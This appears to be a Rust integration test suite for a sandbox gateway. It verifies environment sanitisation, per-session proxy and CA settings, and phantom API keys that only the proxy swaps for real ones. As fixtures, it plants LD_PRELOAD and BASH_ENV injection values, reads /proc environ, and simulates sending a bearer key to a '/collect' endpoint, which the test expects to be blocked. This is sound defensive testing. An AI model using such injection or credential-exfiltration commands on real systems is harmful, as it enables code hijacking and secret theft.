//! The environment of a sandbox child (docs/decisions.md, P10) and provider
//! routing (docs/decisions.md, P8): proxy and CA variables present, operator secrets absent, provider
//! keys replaced by phantoms that only the proxy can turn back into the real key.

mod common;

use common::*;
use reqwest::StatusCode;
use serde_json::json;
use std::collections::BTreeMap;

fn parse_env(text: &str) -> BTreeMap<String, String> {
    text.split('\0')
        .filter_map(|kv| kv.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

/// `scheme://<token>[:…]@127.0.0.1:<port>` → asserts each part.
fn assert_proxy_url(name: &str, value: &str, scheme: &str, token: &str, port: u16) {
    let rest = value
        .strip_prefix(&format!("{scheme}://"))
        .unwrap_or_else(|| panic!("{name}={value:?} is not a {scheme} URL"));
    let (userinfo, hostport) = rest
        .split_once('@')
        .unwrap_or_else(|| panic!("{name}={value:?} carries no token"));
    let user = userinfo.split(':').next().unwrap();
    assert_eq!(user, token, "{name}={value:?}");
    assert_eq!(
        hostport.trim_end_matches('/'),
        format!("127.0.0.1:{port}"),
        "{name}={value:?}"
    );
}

const CA_VARS: [&str; 9] = [
    "SSL_CERT_FILE",
    "CURL_CA_BUNDLE",
    "REQUESTS_CA_BUNDLE",
    "NODE_EXTRA_CA_CERTS",
    "GIT_SSL_CAINFO",
    "PIP_CERT",
    "AWS_CA_BUNDLE",
    "CARGO_HTTP_CAINFO",
    "DENO_CERT",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_child_sees_every_proxy_and_ca_variable_and_no_operator_secret() {
    let dirs = Dirs::new();
    write_network_policy(&dirs.root(), &loopback_policy());
    std::fs::write(
        dirs.root().join(".env"),
        "PROJECT_FLAG=on\nLD_PRELOAD=/evil.so\nBASH_ENV=/evil.sh\n",
    )
    .unwrap();
    let opts = Opts::default()
        .env("GITHUB_TOKEN", "secret-xyz")
        .env("MY_SECRET_KEY", "hunter2-key-value")
        .env("AWS_SECRET_ACCESS_KEY", "aws-secret-value");
    let gw = Gateway::start_in(dirs, opts).await;
    let sid = gw.create_session_at(&gw.dirs.root()).await;
    let info = gw.sandbox_env(&sid).await;
    let port = info["proxy_port"].as_u64().unwrap() as u16;

    let out = gw.exec(&sid, &["env", "-0"]).await;
    assert!(out.ok(), "{out:?}");
    let env = parse_env(&out.stdout);
    // The token is the user part of the proxy URL the endpoint hands out for this session.
    let token = env["HTTP_PROXY"]
        .strip_prefix("http://")
        .and_then(|r| r.split(['@', ':']).next())
        .unwrap()
        .to_string();
    assert!(token.len() >= 16, "{token}");
    // `exec` hands each program its own token of the session (learn mode names the command
    // that made a request), on the session's one proxy port.
    let endpoint = |u: &str| u.rsplit('@').next().map(str::to_string);
    assert_eq!(
        info["env"]["HTTP_PROXY"].as_str().and_then(endpoint),
        endpoint(&env["HTTP_PROXY"]),
        "one proxy per session"
    );
    for k in ["http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY"] {
        assert_proxy_url(k, &env[k], "http", &token, port);
    }
    for k in ["http_proxy", "HTTPS_PROXY"] {
        let userinfo = env[k].split_once('@').map(|(u, _)| u).unwrap_or_default();
        let password = userinfo.split_once(':').map(|(_, p)| p).unwrap_or_default();
        assert!(
            !password.is_empty(),
            "user AND password, which every client sends: {k}"
        );
    }
    for k in ["all_proxy", "ALL_PROXY"] {
        assert!(!env.contains_key(k), "no SOCKS URL by default: {k}");
    }
    for k in ["no_proxy", "NO_PROXY"] {
        assert_eq!(env.get(k).map(String::as_str), Some(""), "{k}");
    }
    let bundle = &env["SSL_CERT_FILE"];
    for k in CA_VARS {
        assert_eq!(&env[k], bundle, "{k}");
    }
    let pem = std::fs::read_to_string(bundle).expect("the CA bundle exists");
    assert!(pem.matches("BEGIN CERTIFICATE").count() >= 1, "{pem}");
    let subjects = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "openssl crl2pkcs7 -nocrl -certfile '{bundle}' | openssl pkcs7 -print_certs -noout"
        ))
        .output()
        .unwrap();
    let subjects = String::from_utf8_lossy(&subjects.stdout);
    assert!(subjects.contains("vis ephemeral CA"), "{subjects}");
    assert_eq!(env.get("UV_NATIVE_TLS").map(String::as_str), Some("1"));
    assert_eq!(
        env.get("VIS_SESSION_ID"),
        Some(&sid),
        "the child can name its session"
    );

    assert_eq!(env.get("PROJECT_FLAG").map(String::as_str), Some("on"));
    for k in [
        "GITHUB_TOKEN",
        "MY_SECRET_KEY",
        "AWS_SECRET_ACCESS_KEY",
        "LD_PRELOAD",
        "BASH_ENV",
    ] {
        assert!(!env.contains_key(k), "{k} reached the child");
    }
    for secret in ["secret-xyz", "hunter2-key-value", "aws-secret-value"] {
        assert!(!out.stdout.contains(secret), "{secret} reached the child");
    }
    // The environment of the process itself, not just what `env` prints.
    let environ = gw.exec(&sid, &["sh", "-c", "cat /proc/$$/environ"]).await;
    assert!(environ.ok(), "{environ:?}");
    assert!(!environ.stdout.contains("secret-xyz"));
    assert!(environ.stdout.contains("UV_NATIVE_TLS=1"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_childs_pwd_is_its_own_working_directory() {
    let gw = start_with_network(loopback_policy(), Opts::default()).await;
    let py = python();
    let out = gw
        .exec_in_root(&[
            &py,
            "-c",
            "import os; print(os.environ.get('PWD')); print(os.getcwd())",
        ])
        .await;
    assert_eq!(out.code, Some(0), "{out:?}");
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(lines.len(), 2, "{out:?}");
    assert_eq!(lines[0], lines[1], "PWD names another directory: {out:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exec_passes_the_childs_exit_status_and_stdio_through() {
    let gw = start_with_network(loopback_policy(), Opts::default()).await;
    let out = gw
        .exec_in_root(&["sh", "-c", "echo out; echo err >&2; exit 7"])
        .await;
    assert_eq!(out.code, Some(7), "{out:?}");
    assert_eq!(out.stdout, "out\n");
    assert!(out.stderr.contains("err"), "{out:?}");
    // A program that is not there: the shell's 127 and a message naming it.
    let missing = gw.exec_in_root(&["no-such-program-vis"]).await;
    assert_eq!(missing.code, Some(127), "{missing:?}");
    assert!(
        missing.stderr.contains("cannot run no-such-program-vis"),
        "{missing:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exec_without_a_session_makes_one_titled_after_the_command_that_the_companion_lists() {
    let gw = start_with_network(loopback_policy(), Opts::default()).await;
    let out = gw
        .exec_in_root(&["sh", "-c", "echo \"$VIS_SESSION_ID\""])
        .await;
    assert!(out.ok(), "{out:?}");
    let sid = out.stdout.trim().to_string();
    assert!(!sid.is_empty(), "{out:?}");
    let (status, list) = gw.get("/v1/sessions").await;
    assert_eq!(status, StatusCode::OK, "{list}");
    let listed = list["sessions"]
        .as_array()
        .and_then(|a| a.iter().find(|s| s["id"] == sid.as_str()))
        .cloned()
        .unwrap_or_else(|| panic!("the exec session is not listed: {list}"));
    assert_eq!(
        listed["title"], "$ sh …",
        "the program, never its arguments"
    );
    assert_eq!(gw.egress(&sid).await.len(), 0, "its egress log is readable");

    // The endpoint names a field of the wrong type instead of ignoring it.
    for (key, body) in [
        ("root", json!({"root": 5})),
        ("session_id", json!({"session_id": ["x"]})),
        ("title", json!({"title": true})),
    ] {
        let (status, v) = gw.post("/v1/sandbox/env", body).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{v}");
        assert_eq!(v["error"]["type"], "invalid-request", "{v}");
        assert_eq!(
            v["error"]["message"],
            format!("{key} must be a string"),
            "{v}"
        );
    }
}

const REAL_KEY: &str = "sk-realAbCdEfGhIjKlMnOpQrStUvWxYz0123456789";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn provider_keys_are_phantoms_that_only_the_provider_route_turns_into_the_real_key() {
    let llm = FixtureLlm::start().await;
    let origin = Origin::start().await;
    let opts = Opts::default()
        .env("OPENAI_API_KEY", REAL_KEY)
        .env("OPENAI_BASE_URL", &llm.openai_base_url());
    let gw = start_with_network(loopback_policy(), opts).await;
    let sid = gw.create_session_at(&gw.dirs.root()).await;
    let port = gw.proxy_port(&sid).await;

    let out = gw.exec(&sid, &["env", "-0"]).await;
    assert!(out.ok(), "{out:?}");
    assert!(
        !out.stdout.contains(REAL_KEY),
        "the real key reached the child"
    );
    let env = parse_env(&out.stdout);
    let phantom = env.get("OPENAI_API_KEY").expect("a phantom key").clone();
    assert_ne!(phantom, REAL_KEY);
    assert_eq!(phantom.len(), REAL_KEY.len(), "{phantom}");
    assert!(phantom.starts_with("sk-"), "{phantom}");
    assert!(
        phantom
            .chars()
            .zip(REAL_KEY.chars())
            .all(|(a, b)| a.is_ascii_digit() == b.is_ascii_digit()
                && a.is_ascii_alphanumeric() == b.is_ascii_alphanumeric()),
        "{phantom}"
    );
    let base = env
        .get("OPENAI_BASE_URL")
        .expect("a provider route")
        .clone();
    assert!(
        base.starts_with(&format!("http://127.0.0.1:{port}/")),
        "{base}"
    );
    assert!(!base.contains(&llm.addr().port().to_string()), "{base}");

    // Through the provider route: the fixture sees the real key, never the phantom.
    llm.push(Script::text(&["routed"]));
    let body = json!({"model": "m", "stream": false,
                      "messages": [{"role": "user", "content": "hi"}]})
    .to_string();
    let call = gw
        .exec(
            &sid,
            &[
                "sh",
                "-c",
                "curl -sS -o /dev/null -w '%{http_code}' \"$OPENAI_BASE_URL/chat/completions\" \
                 -H \"Authorization: Bearer $OPENAI_API_KEY\" -H 'Content-Type: application/json' -d \"$1\"",
                "sh",
                &body,
            ],
        )
        .await;
    assert!(call.ok(), "{call:?}");
    let reqs = llm.requests();
    assert_eq!(reqs.len(), 1, "{reqs:?} {call:?}");
    assert_eq!(reqs[0].path, "/v1/chat/completions");
    assert_eq!(
        reqs[0].header("authorization"),
        Some(format!("Bearer {REAL_KEY}").as_str())
    );
    assert_eq!(call.stdout, "200", "{call:?}");

    // The phantom sent through the proxy straight to the provider's own host is swapped too.
    llm.push(Script::text(&["direct"]));
    let direct = gw
        .exec(
            &sid,
            &[
                "sh",
                "-c",
                "curl -sS -o /dev/null -w '%{http_code}' \"$1\" \
                 -H \"Authorization: Bearer $OPENAI_API_KEY\" -H 'Content-Type: application/json' -d \"$2\"",
                "sh",
                &format!("{}/chat/completions", llm.openai_base_url()),
                &body,
            ],
        )
        .await;
    assert_eq!(direct.stdout, "200", "{direct:?}");
    let reqs = llm.requests();
    assert_eq!(reqs.len(), 2, "{reqs:?}");
    assert_eq!(
        reqs[1].header("authorization"),
        Some(format!("Bearer {REAL_KEY}").as_str())
    );
    assert!(
        reqs.iter()
            .all(|r| r.headers.iter().all(|(_, v)| !v.contains(&phantom))),
        "the phantom reached the provider"
    );

    // The phantom sent to any other host is refused before it leaves.
    let leak = gw
        .exec(
            &sid,
            &[
                "sh",
                "-c",
                "curl -sS -i \"$1\" -H \"Authorization: Bearer $OPENAI_API_KEY\"",
                "sh",
                &format!("http://localhost:{}/collect", origin.port),
            ],
        )
        .await;
    assert!(leak.ok(), "{leak:?}");
    assert!(leak.stdout.starts_with("HTTP/1.1 403"), "{leak:?}");
    assert!(origin.requests().is_empty(), "{:?}", origin.requests());
    let decisions = gw.wait_egress(&sid, 3).await;
    let deny = &decisions[0];
    assert_eq!(deny["decision"], "deny", "{decisions:?}");
    assert_eq!(deny["host"], "localhost", "{deny}");
    assert_eq!(deny["decided_by"]["kind"], "credential", "{deny}");
    assert!(
        decisions[1..]
            .iter()
            .all(|d| d["decision"] == "allow" && d["provider"] == "openai"),
        "{decisions:?}"
    );
    assert!(
        decisions.iter().any(|d| d["lane"] == "provider"),
        "{decisions:?}"
    );
    for d in &decisions {
        assert!(!d.to_string().contains(REAL_KEY), "{d}");
    }
}
